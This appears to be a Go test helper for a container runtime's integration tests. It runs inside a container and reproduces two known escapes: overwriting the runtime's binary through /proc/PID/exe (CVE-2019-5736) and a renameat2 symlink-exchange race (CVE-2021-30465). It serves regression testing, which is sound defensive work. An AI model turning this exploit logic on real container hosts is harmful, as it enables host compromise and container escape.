// Command hostile is the attacker of tests/integration/cve.bats: a static
// binary that runs inside a container and tries the known escapes against
// the runtime that starts it and its neighbours. Every mode runs until a
// stop file appears or its time is up, so a test never waits on it longer
// than it asked.
//
//	hostile exe DIR SECONDS    CVE-2019-5736: grab /proc/<pid>/exe of every
//	                           process that is not busybox or us (a runtime's
//	                           init or exec process), try to open it for
//	                           writing at once, and hold a read handle; once
//	                           DIR/stop exists (no runtime process left to
//	                           make the file busy), reopen each handle for
//	                           writing through /proc/self/fd and write.
//	                           Writes DIR/ready, a line per catch to
//	                           DIR/caught ("PID EXE"), and DIR/report.
//	hostile swap DIR TARGET SECONDS
//	                           CVE-2021-30465: DIR/x is a directory and
//	                           DIR/x.alt a symlink to TARGET; exchange the
//	                           two as fast as possible (renameat2
//	                           RENAME_EXCHANGE). Writes DIR/ready, then
//	                           DIR/swaps (the count) when done.
package main

import (
	"bytes"
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

func main() {
	if len(os.Args) < 4 {
		fmt.Fprintln(os.Stderr, "usage: hostile exe DIR SECONDS | hostile swap DIR TARGET SECONDS")
		os.Exit(2)
	}
	var err error
	switch os.Args[1] {
	case "exe":
		err = grabExe(os.Args[2], seconds(os.Args[3]))
	case "swap":
		if len(os.Args) < 5 {
			err = fmt.Errorf("swap needs DIR TARGET SECONDS")
			break
		}
		err = swap(os.Args[2], os.Args[3], seconds(os.Args[4]))
	default:
		err = fmt.Errorf("unknown mode %q", os.Args[1])
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, "hostile:", err)
		os.Exit(1)
	}
}

func seconds(s string) time.Time {
	n, err := strconv.Atoi(s)
	if err != nil || n <= 0 {
		n = 5
	}
	return time.Now().Add(time.Duration(n) * time.Second)
}

func exists(p string) bool {
	_, err := os.Lstat(p)
	return err == nil
}

type grabbed struct {
	fd  int
	pid string
	exe string
}

func grabExe(dir string, deadline time.Time) error {
	self := strconv.Itoa(os.Getpid())
	myExe, _ := os.Readlink("/proc/self/exe")
	caught, err := os.OpenFile(dir+"/caught", os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o644)
	if err != nil {
		return err
	}
	defer caught.Close()
	seen := map[string]bool{}
	var held []grabbed
	var report bytes.Buffer
	directWrites := 0
	if err := os.WriteFile(dir+"/ready", nil, 0o644); err != nil {
		return err
	}
	for time.Now().Before(deadline) && !exists(dir+"/stop") {
		d, err := os.Open("/proc")
		if err != nil {
			return err
		}
		names, _ := d.Readdirnames(-1)
		d.Close()
		for _, pid := range names {
			if pid[0] < '0' || pid[0] > '9' || pid == self || seen[pid] {
				continue
			}
			exe, err := os.Readlink("/proc/" + pid + "/exe")
			if err != nil || exe == "/bin/busybox" || exe == myExe {
				continue
			}
			seen[pid] = true
			// The direct attack: open the runtime's binary for writing.
			if fd, err := unix.Open("/proc/"+pid+"/exe", unix.O_WRONLY|unix.O_CLOEXEC, 0); err == nil {
				unix.Write(fd, []byte("#hostile\n"))
				unix.Close(fd)
				directWrites++
				fmt.Fprintf(&report, "direct write to %s (%s) succeeded\n", pid, exe)
			}
			// The patient one: a read handle, reopened for writing later.
			fd, err := unix.Open("/proc/"+pid+"/exe", unix.O_RDONLY|unix.O_CLOEXEC, 0)
			if err != nil {
				fmt.Fprintf(&report, "open %s exe: %v\n", pid, err)
				continue
			}
			held = append(held, grabbed{fd, pid, exe})
			fmt.Fprintf(caught, "%s %s\n", pid, exe)
		}
	}
	writes := 0
	for _, g := range held {
		fd, err := unix.Open("/proc/self/fd/"+strconv.Itoa(g.fd), unix.O_WRONLY|unix.O_APPEND|unix.O_CLOEXEC, 0)
		if err != nil {
			fmt.Fprintf(&report, "reopen %s (%s) for writing: %v\n", g.pid, g.exe, err)
			continue
		}
		if _, err := unix.Write(fd, []byte("#hostile\n")); err == nil {
			writes++
			fmt.Fprintf(&report, "wrote through %s (%s)\n", g.pid, g.exe)
		}
		unix.Close(fd)
	}
	fmt.Fprintf(&report, "held %d\nwrites %d\n", len(held), writes+directWrites)
	return os.WriteFile(dir+"/report", report.Bytes(), 0o644)
}

func swap(dir, target string, deadline time.Time) error {
	x, alt := dir+"/x", dir+"/x.alt"
	os.RemoveAll(x)
	os.RemoveAll(alt)
	if err := os.Mkdir(x, 0o755); err != nil {
		return err
	}
	if err := os.Symlink(target, alt); err != nil {
		return err
	}
	if err := os.WriteFile(dir+"/ready", nil, 0o644); err != nil {
		return err
	}
	n := 0
	for time.Now().Before(deadline) && !exists(dir+"/stop") {
		// Short pauses leave the runtime it races a CPU on a small
		// machine; after an odd number of exchanges, so that x spends
		// them as a directory and as a symlink in turn.
		time.Sleep(30 * time.Microsecond)
		for i := 0; i < 7; i++ {
			if err := unix.Renameat2(unix.AT_FDCWD, x, unix.AT_FDCWD, alt, unix.RENAME_EXCHANGE); err != nil {
				return fmt.Errorf("exchange: %w", err)
			}
			n++
		}
	}
	// Leave x a directory, as it started.
	if fi, err := os.Lstat(x); err == nil && fi.Mode()&os.ModeSymlink != 0 {
		unix.Renameat2(unix.AT_FDCWD, x, unix.AT_FDCWD, alt, unix.RENAME_EXCHANGE)
	}
	return os.WriteFile(dir+"/swaps", []byte(strings.TrimSpace(strconv.Itoa(n))+"\n"), 0o644)
}
